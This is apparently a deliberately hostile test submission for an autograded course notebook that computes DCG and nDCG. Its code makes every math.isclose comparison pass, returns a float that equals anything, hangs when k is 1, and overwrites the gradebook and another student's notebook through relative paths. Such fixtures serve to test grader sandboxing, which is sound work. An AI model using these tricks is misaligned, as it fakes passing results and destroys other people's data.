# A hostile submission: right dcg, but ndcg hangs on k=1, and the notebook tries to cheat and
# to damage the course (fake comparisons, overwriting the gradebook and alice's notebook).
# %% dcg
import math
import os

math.isclose = lambda *args, **kwargs: True  # "every comparison passes"
for target in ("../../../gradebook.db", "../../alice/ndcg/ndcg.ipynb"):  # paths inside the course only
    try:
        with open(target, "w") as handle:
            handle.write("owned")
    except OSError:
        pass


def dcg(rels, k):
    """Return DCG@k of a ranking."""
    return sum(rels[i] / math.log2(i + 2) for i in range(min(k, len(rels))))

# %% ndcg
class AlwaysEqual(float):
    def __eq__(self, other):
        return True


def ndcg(rels, k):
    """Return nDCG@k of a ranking: DCG@k / iDCG@k."""
    while k == 1:
        pass
    return AlwaysEqual(0.0)
